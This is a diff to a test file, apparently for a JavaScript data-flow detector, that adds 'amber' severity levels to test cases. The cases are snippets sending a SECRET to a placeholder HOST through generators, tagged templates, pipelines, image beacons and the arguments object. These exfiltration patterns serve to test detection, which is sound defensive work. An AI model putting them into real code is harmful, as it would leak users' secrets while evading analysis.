@@ -7,7 +7,7 @@ import {
 } from "../testing/data-flow-checks.ts";
 
 const FLOWS: readonly DataFlow[] = [
-	["a generator", `function* parts() { yield "HOST/"; yield SECRET; } fetch([...parts()].join(""));`],
+	["a generator", `function* parts() { yield "HOST/"; yield SECRET; } fetch([...parts()].join(""));`, "amber"],
 	[
 		"an async generator",
 		`async function* all() { for (const part of [SECRET]) yield part; }
@@ -28,6 +28,7 @@ const FLOWS: readonly DataFlow[] = [
 	[
 		"a tagged template",
 		`const tag = (parts, ...values) => parts.map((part, at) => part + (values[at] ?? "")).join(""); fetch(tag\`HOST/\${SECRET}\`);`,
+		"amber",
 	],
 	[
 		"functions of functions",
@@ -36,6 +37,7 @@ const FLOWS: readonly DataFlow[] = [
 	[
 		"a pipeline",
 		`const pipe = (...steps) => (first) => steps.reduce((made, step) => step(made), first); pipe(() => SECRET, btoa, (text) => "HOST/?" + text, (to) => { new Image().src = to; })();`,
+		"amber",
 	],
 	[
 		"bind, call and apply",
@@ -59,7 +61,7 @@ const FLOWS: readonly DataFlow[] = [
 		"one of many functions with the same code, called inside another of them",
 		`const make = (to, next) => (data, deep) => { if (deep > 0) next(data, deep - 1); fetch(to, { method: "POST", body: data }); }; const far = make("HOST", () => 0); const near = make("/a", (data, deep) => far(data, deep)); document.onclick = () => { ${Array.from({ length: 12 }, (_, at) => `near(page.x${at});`).join(" ")} near(SECRET, page.n); };`,
 	],
-	["the arguments object", `function send() { fetch(arguments[0] + arguments[1]); } send("HOST/", SECRET);`],
+	["the arguments object", `function send() { fetch(arguments[0] + arguments[1]); } send("HOST/", SECRET);`, "amber"],
 	["a default parameter", `const send = (text = SECRET) => fetch("HOST/" + text); send();`],
 	["a default parameter of a function nobody calls", `const send = (text = SECRET) => fetch("HOST/" + text);`],
 	[
@@ -74,5 +76,7 @@ describe("data through functions and iterators", () => {
 	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
+	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code, level) =>
+		expectHarmlessOnOwnSite(code, level),
+	);
 });
